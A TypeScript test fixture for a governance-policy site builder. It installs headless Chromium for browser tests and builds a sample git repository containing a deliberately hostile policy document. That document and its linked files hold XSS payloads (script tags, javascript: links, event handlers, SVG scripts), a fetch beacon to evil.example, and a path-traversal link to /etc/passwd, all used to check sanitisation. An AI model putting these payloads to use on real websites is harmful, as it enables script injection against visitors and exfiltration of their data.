import { accessSync, constants } from "node:fs";
import { spawnSync } from "node:child_process";
import { policy } from "./repo.js";
import { gitRepo } from "./git.js";

export const CHROMIUM = "/usr/bin/chromium";
export const CHROMIUM_ARGS = ["--no-sandbox", "--headless", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--no-first-run", "--disable-sync"];

/**
 * Debian's chromium for the site's browser tests: installed with apt when it is missing and
 * the tests run as root (a fresh machine, `.ci/run`); otherwise the tests fail saying so,
 * never skip (in CI above all).
 */
export function ensureChromium(): string {
  const ok = () => {
    try {
      accessSync(CHROMIUM, constants.X_OK);
      return true;
    } catch {
      return false;
    }
  };
  if (ok()) return CHROMIUM;
  if (process.getuid?.() === 0) {
    spawnSync("apt-get", ["update"], { stdio: "ignore", timeout: 600_000 });
    spawnSync("apt-get", ["install", "-y", "--no-install-recommends", "chromium"], { stdio: "ignore", timeout: 900_000, env: { ...process.env, DEBIAN_FRONTEND: "noninteractive" } });
    if (ok()) return CHROMIUM;
  }
  throw new Error(`the site's browser tests need Debian's chromium at ${CHROMIUM}: run \`apt-get install -y chromium\` (as root the tests install it themselves)`);
}

export const TODAY = "2026-06-30";

/** Hostile Markdown: every way a document could try to run script in an auditor's browser. */
export const HOSTILE_BODY = [
  "## Purpose",
  "",
  "<script>alert('script-tag')</script>",
  "",
  "[a javascript link](javascript:alert('md-link'))",
  "",
  '<a href="javascript:alert(\'html-link\')">html javascript link</a> <a href="JaVaScRiPt:alert(1)">mixed case</a>',
  "",
  '<img src="x" onerror="alert(\'onerror\')"> <img src="https://example.com/tracker.png">',
  "",
  '<svg width="10" height="10"><script>alert("svg-script")</script><circle r="5" onload="alert(\'svg-onload\')"/></svg>',
  "",
  '<iframe src="javascript:alert(\'iframe\')"></iframe><object data="x.swf"></object><embed src="x.swf">',
  "",
  '<div onclick="alert(\'raw-block\')" style="background:url(javascript:alert(1))">raw HTML block</div>',
  "",
  '<form action="https://evil.example/"><input name="a"><button formaction="javascript:alert(1)">go</button></form>',
  "",
  '<a id="kept-anchor" name="kept-name">an HTML anchor validate counts</a>',
  "",
  // Repository files that would run in the browser if the site copied them (siteRepo's HOSTILE_FILES).
  "[terms](../agreements/terms.html) [old terms](../agreements/old.htm) [logo](../img/logo.svg) [tool](../tools/run.js) [feed](../agreements/feed.xml) ![logo](../img/logo.svg) [signed](../agreements/signed.pdf) ![chart](../img/chart.png)",
  "",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><style>body{background:red}</style>',
  "",
  "## Scope",
  "",
  "Who.",
  "",
  "## Policy",
  "",
  "What.",
  "",
].join("\n");

/** A script that calls out and loads a remote image, the way a hostile file a document links would. */
const CALLS_OUT = `<script>alert("copied-file"); fetch("https://evil.example/beacon")</script><img src="https://evil.example/pixel.png">`;

/**
 * Files a document links to that must never be copied into the site as they are (they run in a
 * browser), beside inert ones that are (their content does not matter: the site copies bytes).
 */
export const HOSTILE_FILES: Record<string, string> = {
  "agreements/terms.html": `<!doctype html><html><body>${CALLS_OUT}Terms</body></html>\n`,
  "agreements/old.htm": `<html><body>${CALLS_OUT}</body></html>\n`,
  "img/logo.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert("svg-file")</script><circle r="5"/></svg>\n`,
  "tools/run.js": `alert("js-file");\n`,
  "agreements/feed.xml": `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>${CALLS_OUT}</body></html>\n`,
  "agreements/signed.pdf": "%PDF-1.4\n%%EOF\n",
  "img/chart.png": "\x89PNG\r\n\x1a\n",
};

/** A small governance repository in git: linked documents, a licence with its agreement, a repository kind, a hostile document and the hostile files it links. */
export async function siteRepo(dir: string): Promise<{ head: string }> {
  const { commit } = await gitRepo(dir);
  const head = await commit(
    {
      "policyops.yaml": "version: 1\nnot_applicable:\n  - { control: \"NIST-CSF-2.0:GV.SC-10\", reason: \"no supplier exit in scope\" }\n",
      "README.md": "# Governance\n",
      "policies/backup.md": policy("POL-001", "controls: [\"NIST-CSF-2.0:PR.DS-11\"]\n", "## Purpose\n\nKeep restorable copies. See [the offboarding SOP](../sops/offboard.md#step-two).\n\n## Scope\n\nAll systems.\n\n## Scope\n\nAgain, for the duplicate slug.\n\n## Policy\n\nBackups are tested quarterly with the zebrafish drill.\n\n| what | how often |\n|:--|--:|\n| full | weekly |\n\n~~old rule~~ and a footnote[^1].\n\n[^1]: The footnote text.\n"),
      "policies/hostile.md": `---\nid: POL-666\ntitle: "<img src=x onerror=alert('title')> Hostile <script>alert('title2')</script>"\nversion: "1.0"\nstatus: active\nowner: "\\"><script>alert('owner')</script>"\napproved_by: IT Director\napproved_on: 2026-03-01\nlast_reviewed: 2026-03-01\n---\n\n# Hostile\n\n${HOSTILE_BODY}`,
      "policies/bad-id.md": `---\nid: "<script>alert('id')</script>"\ntitle: Bad id\nversion: "1.0"\nstatus: draft\nowner: IT\n---\n\n## Purpose\n\nx\n\n## Scope\n\ny\n\n## Policy\n\nz\n`,
      "sops/offboard.md": `---\nid: SOP-001\ntitle: Offboarding\nversion: "1.0"\nstatus: active\nowner: IT Director\napproved_by: IT Director\napproved_on: 2026-03-01\nlast_reviewed: 2026-03-01\npolicies: [POL-001]\ncontrols: ["NIST-CSF-2.0:PR.AA-01"]\n---\n\n# Offboarding\n\n## Purpose\n\nLeavers lose access. Policy: [backup](../policies/backup.md#scope-1); agreement: [signed](../agreements/acme.md); missing: [gone](../policies/none.md); outside: [passwd](../../../../etc/passwd).\n\n## Scope\n\nEveryone.\n\n## Procedure\n\n### Step two\n\nDisable the account.\n`,
      "licences/acme.yaml": "id: LIC-001\nproduct: Acme Backup\ntype: subscription\nowner: IT\nexpiry_date: 2026-08-01\nseats: 10\nassigned: 4\nagreement: agreements/acme.md\n",
      "agreements/acme.md": "# Acme agreement\n",
      "budgets/it.yaml": "id: BUD-2026\ntitle: IT budget 2026\nowner: IT Director\nfiscal_year: \"2026\"\ncurrency: GBP\nlines:\n  - { id: SW, title: Software, planned: 1000 }\n",
      ...HOSTILE_FILES,
      "kinds/workshop.schema.json": JSON.stringify({
        $schema: "https://json-schema.org/draft/2020-12/schema",
        title: "Security workshop",
        type: "object",
        "x-policyops": { kind: "workshop", folder: "workshops", format: "yaml", idPrefix: "WKS", traits: [] },
        required: ["id", "title", "owner"],
        properties: { id: { type: "string" }, kind: { type: "string" }, title: { type: "string" }, owner: { type: "string" }, status: { type: "string" } },
        additionalProperties: false,
      }, null, 2),
      "workshops/awareness.yaml": "id: WKS-001\ntitle: Security awareness\nowner: CISO\nstatus: active\n",
    },
    "Initial governance",
    "2026-03-01",
  );
  return { head };
}
